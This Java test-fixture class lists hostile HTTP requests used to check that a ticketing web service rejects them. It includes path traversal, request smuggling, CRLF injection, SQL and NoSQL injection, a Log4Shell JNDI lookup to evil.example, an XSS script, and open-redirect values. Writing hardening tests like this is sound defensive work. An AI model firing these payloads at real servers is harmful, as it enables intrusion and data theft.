package cn.duban.http;

import cn.duban.http.HostileRequestsTest.Attack;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Further requests of a hostile caller: paths, methods, smuggled heads, cookies, encodings, redirects, names and bodies. */
final class MoreAttacks {
    private static final String CLOSE = "Host: localhost\nConnection: close\n";
    private static final String JSON = CLOSE + "Content-Type: application/json\n";
    private static final String BOARD = "GET /v1/board";
    private static final String REGISTER = "POST /v1/tickets";

    /** Ids of the last event that no frame ever carried. */
    static final List<String> POSITIONS = List.of(
            "610802:-1.0",
            "610802:999999999999.9",
            "610802:99999999999999999999.0",
            "999999:1.0",
            "610802:1.0,610802:2.0",
            "'; DROP TABLE region_log; --",
            "../../etc/passwd",
            "610802:1.0".repeat(60),
            "null");

    private MoreAttacks() {}

    static Map<String, Attack> all() {
        Map<String, Attack> all = new LinkedHashMap<>();
        paths(all);
        methods(all);
        smuggled(all);
        cookies(all);
        negotiated(all);
        redirects(all);
        names(all);
        bodies(all);
        panels(all);
        return all;
    }

    private static void get(Map<String, Attack> all, String what, String path, String headers, String expected) {
        all.put(what, new Attack("GET " + path, CLOSE + headers, "", expected));
    }

    private static void paths(Map<String, Attack> all) {
        for (String path : List.of(
                "/V1/BOARD",
                "/v1\\\\board",
                "/v1/board%2f",
                "/v1%2fboard",
                "/v1/board;jsessionid=1",
                "/v1/board.json",
                "/assets/%252e%252e/%252e%252e/application.conf",
                "/assets/lib/..%5c..%5cpom.xml",
                "/assets//etc/passwd",
                "/assets/.git/config",
                "/assets/lib/api.js%00.png",
                "/assets/META-INF/MANIFEST.MF",
                "/docs/..;/application.conf",
                "/docs/%2e%2e/reference.conf",
                "/actuator/env",
                "/server-status",
                "/v1/units/..%2f..%2f/scorecard",
                "/v1/stream/..%2ftickets",
                "/grafana/get/..%2f..%2fetc",
                "/v1/live-line/sessions/..%2f..%2f/bulletin")) get(all, "path " + path, path, "", "4xx");
        // Dot segments are resolved before rights are looked up, so they reach the route that they name and no other.
        get(all, "dots in a path", "/v1/tickets/../regions/NONE/board", "", "4xx");
        get(all, "escaped dots in a path", "/v1/%2e%2e/v1/tickets/NONE", "", "404 ticket.unknown");
    }

    private static void methods(Map<String, Attack> all) {
        for (String method : List.of("TRACE", "PUT", "PATCH", "PROPFIND", "DELETE", "get", "GET\\tX"))
            all.put("method " + method, new Attack(method + " /v1/board", CLOSE, "", "4xx or 501"));
        all.put("CONNECT to another host", new Attack("CONNECT evil.example:443", CLOSE, "", "4xx or 501"));
        for (String header : List.of("X-HTTP-Method-Override", "X-Method-Override", "X-HTTP-Method"))
            all.put(
                    header + " makes no command of a read",
                    new Attack("GET /v1/tickets/NONE", CLOSE + header + ": POST\n", "", "404 ticket.unknown"));
        all.put(
                "a method in the query makes no command of a read",
                new Attack("GET /v1/tickets/NONE?_method=DELETE", CLOSE, "", "4xx"));
    }

    private static void smuggled(Map<String, Attack> all) {
        String chunks = "0\r\n\r\nGET /v1/tokens HTTP/1.1\r\nHost: localhost\r\n\r\n";
        for (String coding : List.of(
                "Transfer-Encoding: xchunked",
                "Transfer-Encoding: chunked, identity",
                "Transfer-Encoding: identity, chunked, chunked",
                "Transfer-Encoding:\tchunked\nContent-Length: 4",
                "Transfer-Encoding : chunked",
                "Transfer-Encoding: chunked\nTransfer-Encoding: x",
                "Transfer-Encoding: \u000bchunked",
                "Content-Length: 0\nContent-Length: 44"))
            all.put(
                    "smuggled by " + coding.replace('\n', '|'),
                    new Attack(REGISTER, JSON + coding + "\n", chunks, "4xx or 501"));
        all.put(
                "an obsolete folded header",
                new Attack(BOARD, CLOSE + "X: a\n\tTransfer-Encoding: chunked\n", "", "any but 5xx"));
        all.put("a line break in an id", new Attack("GET /v1/tickets/a%0d%0aX-Made-Up:%201", CLOSE, "", "4xx"));
        all.put(
                "a line break in a parameter",
                new Attack("GET /v1/tickets?q=a%0d%0aX-Made-Up:%201", CLOSE, "", "any but 5xx"));
        all.put(
                "an unknown expectation",
                new Attack(REGISTER, JSON + "Expect: 200-maybe\nContent-Length: 2\n", "{}", "4xx"));
        all.put(
                "an upgrade to HTTP/2",
                new Attack(
                        BOARD,
                        "Host: localhost\nConnection: close, Upgrade, HTTP2-Settings\nUpgrade: h2c\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\n",
                        "",
                        "any but 5xx"));
    }

    private static void cookies(Map<String, Attack> all) {
        get(
                all,
                "a cookie of 8,100 characters",
                "/v1/board",
                "Cookie: duban-session=" + "a".repeat(8_100) + "\n",
                "any but 5xx");
        get(all, "200 cookies", "/v1/board", "Cookie: " + "a=b; ".repeat(200) + "c=d\n", "any but 5xx");
        get(all, "a cookie that is a path", "/v1/session", "Cookie: duban-session=../../tokens.conf\n", "any but 5xx");
        get(
                all,
                "a cookie with quotes and line ends",
                "/v1/session",
                "Cookie: duban-session=\"a%0d%0aX-Made-Up: 1\"\n",
                "any but 5xx");
        get(
                all,
                "a token of 8,000 characters",
                "/v1/board",
                "Authorization: Bearer " + "a".repeat(8_000) + "\n",
                "any but 5xx");
        get(
                all,
                "an unknown scheme of credentials",
                "/v1/board",
                "Authorization: Digest username=\"admin\"\n",
                "any but 5xx");
    }

    private static void negotiated(Map<String, Attack> all) {
        get(all, "a thousand ranges", "/v1/regions", "Range: bytes=" + "0-0,".repeat(1_000) + "1-1\n", "any but 5xx");
        get(all, "a range that ends before it begins", "/v1/regions", "Range: bytes=9-1\n", "any but 5xx");
        get(all, "a range of 10^30", "/v1/regions", "Range: bytes=0-" + "9".repeat(30) + "\n", "any but 5xx");
        get(all, "a weight out of range", "/v1/regions", "Accept-Encoding: gzip;q=9e9, *;q=-1\n", "any but 5xx");
        get(
                all,
                "two hundred encodings",
                "/v1/regions",
                "Accept-Encoding: " + "x,".repeat(200) + "gzip\n",
                "any but 5xx");
        get(all, "an unreadable date", "/v1/regions", "If-Modified-Since: 99 Foo 99999\n", "any but 5xx");
        get(
                all,
                "a tag of 7,000 characters",
                "/v1/regions",
                "If-None-Match: \"" + "a".repeat(7_000) + "\"\n",
                "any but 5xx");
    }

    private static void redirects(Map<String, Attack> all) {
        for (String parameter : List.of("next", "redirect", "returnTo", "url", "continue"))
            get(all, "a page with " + parameter, "/docs?" + parameter + "=http://evil.example/", "", "any but 5xx");
        all.put(
                "a sign-in that asks for a redirect",
                new Attack(
                        "POST /v1/session?redirect=//evil.example", JSON + "Content-Length: 2\n", "{}", "any but 5xx"));
        get(all, "X-Forwarded-Host", "/v1/regions", "X-Forwarded-Host: evil.example\n", "any but 5xx");
        get(all, "X-Original-URL", "/v1/tickets/NONE", "X-Original-URL: /v1/tokens\n", "404 ticket.unknown");
        get(all, "X-Rewrite-URL", "/v1/tickets/NONE", "X-Rewrite-URL: /v1/tokens\n", "404 ticket.unknown");
        get(all, "Forwarded", "/v1/regions", "Forwarded: for=127.0.0.1;host=evil.example;proto=https\n", "any but 5xx");
    }

    private static void names(Map<String, Attack> all) {
        Map<String, String> marks = new LinkedHashMap<>();
        marks.put("a right-to-left override", "202e");
        marks.put("a left-to-right override", "202d");
        marks.put("an isolate", "2066");
        marks.put("a right-to-left mark", "200f");
        marks.put("an Arabic letter mark", "061c");
        marks.put("a zero-width space", "200b");
        marks.put("a word joiner", "2060");
        marks.put("a byte order mark", "feff");
        marks.put("a soft hyphen", "00ad");
        marks.put("a line separator", "2028");
        marks.put("half a character", "d800");
        marks.put("a deleted character", "007f");
        marks.forEach((what, code) -> {
            String mark = "\\u" + code;
            all.put(what + " in a topic", body(REGISTER, topic("供热" + mark + "/停暖")));
            all.put(what + " in an agent's name", body("POST /v1/agents", agent("A" + mark + "1")));
        });
        all.put("a topic of 201 characters", body(REGISTER, topic("t".repeat(201))));
        all.put("an agent's name of 65 characters", body("POST /v1/agents", agent("a".repeat(65))));
    }

    private static String topic(String topic) {
        return Client.registration("NAME").toString().replace("供热/停暖", topic);
    }

    private static String agent(String name) {
        return "{\"agent\":\"" + name + "\",\"shift\":\"S1\",\"state\":\"READY\"}";
    }

    private static void bodies(Map<String, Attack> all) {
        for (String body : List.of(
                "{\"id\":\"A\",\"id\":\"B\"}",
                "{\"__proto__\":{\"admin\":true}}",
                "{\"id\":{\"$ne\":null}}",
                "{\"id\":\"a' OR '1'='1\"}",
                "{\"id\":\"${jndi:ldap://evil.example/a}\"}",
                "{\"id\":[\"A\"]}",
                "{\"id\":true}",
                "{\"@class\":\"java.lang.Runtime\",\"id\":\"A\"}",
                "{\"id\":\"A\",\"roles\":[\"admin\"]}",
                "\"text\"",
                "null",
                "")) all.put("body " + body, body(REGISTER, body));
        for (String type : List.of("text/xml", "application/yaml", "text/plain", "multipart/form-data; boundary=x"))
            all.put(
                    "a body of " + type,
                    new Attack(
                            REGISTER,
                            CLOSE + "Content-Type: " + type + "\nContent-Length: 33\n",
                            "<!DOCTYPE a [<!ENTITY b SYSTEM 'f",
                            "415 media-type"));
        all.put(
                "a type twice",
                new Attack(REGISTER, JSON + "Content-Type: text/plain\nContent-Length: 2\n", "{}", "4xx"));
        all.put(
                "an ingest line nested 5,000 deep",
                new Attack(
                        "POST /v1/ingest",
                        CLOSE + "Content-Type: application/x-ndjson\nContent-Length: 10000\n",
                        "{\"a\":".repeat(2_000).substring(0, 10_000),
                        "any but 5xx"));
    }

    private static void panels(Map<String, Attack> all) {
        all.put(
                "a panel with a refId that is a script",
                body(
                        "POST /grafana/query",
                        "{\"targets\":[{\"refId\":\"</script><script>alert(1)//\",\"target\":\"x\"}]}",
                        "any but 5xx"));
        all.put(
                "a panel that does not exist",
                body(
                        "POST /grafana/query",
                        "{\"targets\":[{\"refId\":\"A\",\"target\":\"../../etc/passwd\"}]}",
                        "any but 5xx"));
        all.put(
                "a thousand targets",
                body(
                        "POST /grafana/query",
                        "{\"targets\":[" + "{\"refId\":\"A\",\"target\":\"x\"},".repeat(999)
                                + "{\"refId\":\"A\",\"target\":\"x\"}]}",
                        "any but 5xx"));
        get(all, "an export in an unknown format", "/grafana/get/open?format=..%2fxlsx", "", "4xx");
    }

    private static Attack body(String line, String body) {
        return body(line, body, "4xx");
    }

    private static Attack body(String line, String body, String expected) {
        int length = body.getBytes(StandardCharsets.UTF_8).length;
        return new Attack(line, JSON + "Content-Length: " + length + "\n", body, expected);
    }
}
